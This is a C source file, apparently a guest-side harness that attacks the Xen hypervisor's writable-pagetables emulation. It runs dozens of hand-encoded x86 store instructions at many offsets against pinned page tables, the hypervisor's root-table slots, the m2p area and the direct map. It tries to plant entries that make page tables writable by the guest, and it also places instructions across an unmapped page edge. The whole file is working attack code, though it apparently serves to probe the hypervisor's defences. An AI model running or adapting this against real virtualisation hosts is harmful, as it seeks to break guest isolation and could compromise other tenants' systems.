/* SPDX-License-Identifier: MIT */
/* Every instruction that writes memory, at every offset, onto pages of page tables. */
#include "attack.h"

#define TABLE  174u /* two L1 tables side by side, then a page that is not mapped */
#define TARGET 178u

struct form {
    uint8_t n;
    uint8_t bytes[15];
};

/* With RDI the place, RAX the value, RCX 1, RDX 0, RBX the value too, RSI readable. */
static const struct form forms[] = {
    {2, {0x88, 0x07}}, /* mov %al, (%rdi) */
    {2, {0x89, 0x07}}, /* mov %eax, (%rdi) */
    {3, {0x66, 0x89, 0x07}},
    {3, {0x48, 0x89, 0x07}},
    {7, {0x48, 0xc7, 0x07, 0, 0, 0, 0}},       /* movq $0, (%rdi) */
    {3, {0xc6, 0x07, 0x21}},                   /* movb */
    {4, {0x48, 0x0f, 0xc3, 0x07}},             /* movnti */
    {3, {0x48, 0x87, 0x07}},                   /* xchg */
    {2, {0x86, 0x27}},                         /* xchg %ah, (%rdi) */
    {5, {0xf0, 0x48, 0x0f, 0xb1, 0x1f}},       /* lock cmpxchg %rbx, (%rdi) */
    {4, {0x48, 0x0f, 0xc7, 0x0f}},             /* cmpxchg16b */
    {4, {0xf0, 0x0f, 0xc7, 0x0f}},             /* lock cmpxchg8b */
    {5, {0xf0, 0x48, 0x0f, 0xc1, 0x07}},       /* lock xadd */
    {4, {0xf0, 0x48, 0x01, 0x07}},             /* lock add */
    {3, {0x48, 0x09, 0x07}},                   /* or */
    {3, {0x48, 0x11, 0x07}},                   /* adc */
    {3, {0x48, 0x19, 0x07}},                   /* sbb */
    {3, {0x48, 0x21, 0x07}},                   /* and */
    {3, {0x48, 0x29, 0x07}},                   /* sub */
    {3, {0x48, 0x31, 0x07}},                   /* xor */
    {4, {0x48, 0x83, 0x0f, 0x02}},             /* orq $2, (%rdi) */
    {4, {0x48, 0x83, 0x27, 0xfd}},             /* andq $~2 */
    {3, {0x48, 0xff, 0x07}},                   /* inc */
    {4, {0xf0, 0x48, 0xff, 0x0f}},             /* lock dec */
    {3, {0x48, 0xf7, 0x17}},                   /* not */
    {3, {0x48, 0xf7, 0x1f}},                   /* neg */
    {6, {0xf0, 0x48, 0x0f, 0xba, 0x2f, 0x01}}, /* lock bts $1 */
    {5, {0x48, 0x0f, 0xba, 0x37, 0x05}},       /* btr $5 */
    {5, {0x48, 0x0f, 0xba, 0x3f, 0x3f}},       /* btc $63 */
    {4, {0x48, 0x0f, 0xab, 0x0f}},             /* bts %rcx, (%rdi) */
    {4, {0x48, 0x0f, 0xbb, 0x07}},             /* btc %rax, (%rdi): far away */
    {3, {0x48, 0xd1, 0x27}},                   /* shl */
    {3, {0x48, 0xd3, 0x0f}},                   /* ror %cl */
    {5, {0x48, 0x0f, 0xa4, 0x1f, 0x01}},       /* shld */
    {2, {0x48, 0xab}},                         /* stosq */
    {3, {0xf3, 0x48, 0xab}},                   /* rep stosq */
    {2, {0x48, 0xa5}},                         /* movsq */
    {3, {0xf3, 0xa4}},                         /* rep movsb */
    {3, {0x0f, 0x95, 0x07}},                   /* setne */
    {2, {0x8c, 0x17}},                         /* mov %ss, (%rdi) */
    {3, {0x0f, 0x00, 0x0f}},                   /* str */
    {3, {0x0f, 0x00, 0x07}},                   /* sldt */
    {3, {0x0f, 0x01, 0x07}},                   /* sgdt */
    {3, {0x0f, 0x01, 0x0f}},                   /* sidt */
    {3, {0x0f, 0x01, 0x27}},                   /* smsw */
    {3, {0x0f, 0x11, 0x07}},                   /* movups %xmm0, (%rdi) */
    {4, {0x66, 0x0f, 0xd6, 0x07}},             /* movq %xmm0, (%rdi) */
    {4, {0x66, 0x0f, 0xe7, 0x07}},             /* movntdq */
    {2, {0xd9, 0x17}},                         /* fsts */
    {2, {0xd9, 0x37}},                         /* fnstenv */
    {3, {0x0f, 0xae, 0x1f}},                   /* stmxcsr */
    {2, {0x8f, 0x07}},                         /* pop (%rdi): takes the return address */
    {4, {0x67, 0x48, 0x89, 0x07}},             /* mov, 32-bit address */
    {4, {0x64, 0x48, 0x89, 0x07}},             /* mov %fs: */
    {4, {0xf2, 0x48, 0x89, 0x07}},
    {5, {0x66, 0x66, 0x48, 0x89, 0x07}},
    {15,
     {0x66, 0x66, 0x66, 0x66, 0x66, 0x66, 0x66, 0x66, 0x66, 0x66, 0x66, 0x66, 0x48, 0x89, 0x07}},
    {5, {0x48, 0x0f, 0x38, 0xf1, 0x07}}, /* movbe */
    {5, {0xc4, 0xe1, 0x78, 0x11, 0x07}}, /* vmovups */
    {2, {0x62, 0x07}},
};

struct store {
    void (*code)(void);
    uint64_t at, value;
};

static void perform(void *arg)
{
    struct store *s = arg;
    uint64_t at = s->at, ax = s->value, cx = 1, dx = 0, bx = s->value;
    const void *from = forms;
    __asm__ volatile("call *%[code]"
                     : "+D"(at), "+a"(ax), "+c"(cx), "+d"(dx), "+b"(bx), "+S"(from)
                     : [code] "r"(s->code)
                     : "memory", "cc", "r8", "r9", "r10", "r11");
}

static void all_forms(const char *name, uint64_t base, uint64_t value)
{
    static const unsigned offsets[] = {0,  1,    3,    4,    5,    7,    8,   12,
                                       64, 4080, 4088, 4089, 4092, 4093, 4095};
    for (unsigned f = 0; f < sizeof(forms) / sizeof(forms[0]); f++) {
        void (*code)(void) = (void (*)(void))(uint64_t)code_of(forms[f].bytes, forms[f].n);
        for (unsigned o = 0; o < sizeof(offsets) / sizeof(offsets[0]); o++) {
            struct store s = {code, base + offsets[o], value};
            attempt_quietly(perform, &s);
        }
    }
    attempts_sum(name);
}

/* Code that spans two pages, the second of which is not there. */
static void code_at_the_edge(void)
{
    static const uint8_t store[] = {0x48, 0x89, 0x07};
    for (unsigned cut = 1; cut <= 3; cut++) {
        memcpy(pool[179] + PAGE - cut, store, sizeof(store) < cut ? sizeof(store) : cut);
        struct store s = {(void (*)(void))(uint64_t)(pool[179] + PAGE - cut), page_va(TABLE), 0};
        set_va(page_va(180), 0);
        attempt_quietly(perform, &s);
        make_rw(180);
    }
    attempts_sum("code at the edge of a page");
}

void attack_stores(void)
{
    static const unsigned levels[] = {1, 2, 4};
    call2(__HYPERVISOR_vm_assist, VMASST_CMD_enable, VMASST_TYPE_writable_pagetables);
    for (unsigned i = 0; i < 3; i++) {
        unsigned level = levels[i];
        for (unsigned t = TABLE; t < TABLE + 2; t++) {
            make_ro(t);
            pin(t, level);
        }
        set_va(page_va(TABLE + 2), 0);
        all_forms("absent", page_va(TABLE), 0x123456780);
        all_forms("a page", page_va(TABLE), entry_for(TARGET, P_ | RW | US));
        all_forms("the table itself, writable", page_va(TABLE), entry_for(TABLE, P_ | RW | US));
        all_forms("second table", page_va(TABLE + 1), entry_for(TABLE, P_ | RW | US));
        all_forms("ones", page_va(TABLE), ~0ull);
        make_rw(TABLE + 2);
        code_at_the_edge();
        pool_reset(TABLE, 3);
    }
    all_forms("the live root", start_info->pt_base + 8 * 300, entry_for(TARGET, P_ | RW | US));
    all_forms("the hypervisor's slots", start_info->pt_base + 8 * 256, 0);
    all_forms("m2p", 0xffff800000000000ull, 0);
    all_forms("the direct map", 0xffff830000100000ull, 0);
}
